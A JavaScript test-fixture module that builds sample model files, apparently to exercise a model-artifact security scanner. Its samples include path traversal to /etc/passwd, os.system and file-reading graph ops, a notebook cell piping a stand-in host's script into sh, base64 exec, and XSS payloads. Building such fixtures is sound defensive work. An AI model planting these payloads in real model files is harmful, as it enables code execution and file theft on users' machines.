// Documents and texts that come with models, each of which one parser alone reads.
import { ascii, field, json, PAYLOAD } from "./builders.mjs";

const cell = (source, more = {}) => ({ cell_type: "code", source, metadata: {}, outputs: [], ...more });

function external(entries) {
  const pairs = entries.map(([key, value]) =>
    field(13, Buffer.concat([field(1, ascii(key)), field(2, ascii(value))])),
  );
  const tensor = Buffer.concat([
    Buffer.from([0x10, 1]),
    field(8, ascii("w")),
    ...pairs,
    Buffer.from([0x70, 1]),
  ]);
  return Buffer.concat([Buffer.from([8, 8]), field(7, field(5, tensor)), field(8, Buffer.from([0x10, 17]))]);
}

export const TEXTS = {
  "external.onnx": external([
    ["location", "weights/model.onnx_data"],
    ["offset", "4096"],
    ["length", "64"],
    ["checksum", "ab"],
  ]),
  "outside.onnx": external([
    ["location", "../../etc/passwd"],
    ["key", "value"],
    ["offset", "-1"],
  ]),
  "prepacked.onnx": external([
    ["location", "m.bin"],
    ["prepacked_0", "MatMul+33|16384;16384;0|9;8;7"],
  ]),
  "address.onnx": external([
    ["location", "*/_ORT_MEM_ADDR_/*"],
    ["offset", "140737488355328"],
  ]),
  "python.prototxt": ascii(
    "name: 'n'\nlayer { name: 'p' type: 'Python' python_param { module: 'my_layers' layer: 'Mine' param_str: '{}' } }\nlayer { type: 'Python' python_param: { module: 'os' layer: 'system' } }\n",
  ),
  "saved_model.pbtxt": ascii(
    'saved_model_schema_version: 1\nmeta_graphs {\n graph_def {\n node { name: "a" op: "PyFunc" }\n node { name: \'b\' op: \'Read\' \'File\' }\n node { name: "c" op: "Wr\\x69teFile" }\n }\n}\n',
  ),
  "graph.pbtxt": ascii(
    'node {\n name: "a"\n op: "ReadFile"\n}\nnode { op: "PyFuncStateless" }\nnode { op: "MatMul" }\nversions { producer: 22 }\n',
  ),
  "shell.ipynb": json({
    nbformat: 4,
    nbformat_minor: 5,
    metadata: {},
    cells: [
      cell(["!pip install x\n", "%sx ls\n", "files = !ls\n", "import os\n"]),
      cell("%%bash\ncurl http://x.example/a.sh | sh\n"),
      cell("%%javascript\nalert(1)"),
      cell(["get_ipython().system('id')\n", "import base64\n", "exec(base64.b64decode('aWQ='))\n"]),
      cell("x", {
        outputs: [
          {
            output_type: "display_data",
            data: { "text/html": ["<script src='http://x.example/a.js'>", "</script>"] },
          },
        ],
      }),
      { cell_type: "markdown", source: ["# Title\n", "<img src=x onerror=alert(1)>"], metadata: {} },
      { cell_type: "raw", source: [] },
    ],
  }),
  "oci-layout": json({ imageLayoutVersion: "1.0.0" }),
  "manifest.json": json({
    schemaVersion: 2,
    mediaType: "application/vnd.oci.image.manifest.v1+json",
    config: { mediaType: "application/vnd.ollama.model", digest: "sha256:00", size: 2 },
    layers: [{ mediaType: "application/vnd.cncf.model.weight.v1.tar", digest: "sha256:01", size: 3 }],
  }),
  "image.json": json({ architecture: "amd64", rootfs: { type: "layers", diff_ids: ["sha256:00"] } }),
  "README.md": ascii(
    "---\nlicense: other\nlicense_name: mine\nlicense_link: LICENSE\ntags:\n- a\nlicenses: [mit, 'apache-2.0']\nlibrary_name: transformers\n---\n# Model\n\n## Intended uses & limitations\nText.\n\n## Training data\nText.\n\n## Evaluation results\n| a | b |\n",
  ),
  LICENSE: ascii(
    "                                 Apache License\n                           Version 2.0, January 2004\n                        http://www.apache.org/licenses/\n\n   TERMS AND CONDITIONS FOR USE, REPRODUCTION, AND DISTRIBUTION\n",
  ),
  "LICENSE.txt": ascii(
    'MIT License\n\nCopyright (c) 2026 Somebody\n\nPermission is hereby granted, free of charge, to any person obtaining a copy of this software and associated documentation files (the "Software"), to deal in the Software without restriction\n',
  ),
  "addresses.pkl": ascii(
    "\x80\x04]\x94(\x8c\x19http://203.0.113.77:8080/x\x8c\x14ftp://[2001:db8::1]/a\x8c\x1chttps://models.invalid/w.bin\x8c\x10 198.51.100.200 \x8c\x0a 1.2.3.4 xe.",
  ),
  "llamafile-zip.exe": Buffer.concat([
    ascii("MZqFpD='\n"),
    Buffer.alloc(64),
    PAYLOAD,
    ascii("PK\x05\x06"),
    Buffer.alloc(18),
  ]),
  "model.json": json({
    format: "graph-model",
    generatedBy: "2.17.0",
    modelTopology: {
      node: [
        { name: "x", op: "Placeholder" },
        { name: "r", op: "ReadFile" },
      ],
      versions: { producer: 1 },
    },
    weightsManifest: [
      {
        paths: ["group1-shard1of1.bin", "../outside.bin"],
        weights: [{ name: "w", shape: [2], dtype: "float32" }],
      },
    ],
  }),
};
